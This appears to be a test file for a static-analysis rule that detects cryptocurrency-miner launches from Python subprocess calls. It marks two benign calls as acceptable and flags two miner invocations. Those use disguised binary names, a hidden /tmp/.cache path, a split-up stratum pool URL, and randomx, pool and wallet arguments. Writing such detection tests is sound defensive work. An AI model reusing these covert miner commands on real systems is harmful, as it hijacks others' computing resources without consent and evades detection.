import subprocess

# ok: miner-arguments
subprocess.run(["sort", "-o", "out.txt", "-u", "in.txt"])
# ok: miner-arguments
subprocess.run(["grep", "-rn", "stratum+tcp://", "/var/log"])
pool = "stratum+" + "tcp://203.0.113.9:3333"
args = ["/tmp/.cache/indexer", "-o", pool]
args += ["-u", "x", "-k"]
# ruleid: miner-arguments
subprocess.Popen(args)
# ruleid: miner-arguments
subprocess.Popen("./trainer --algorithm randomx --pool 203.0.113.9:4444 --wallet w --disable-gpu", shell=True)
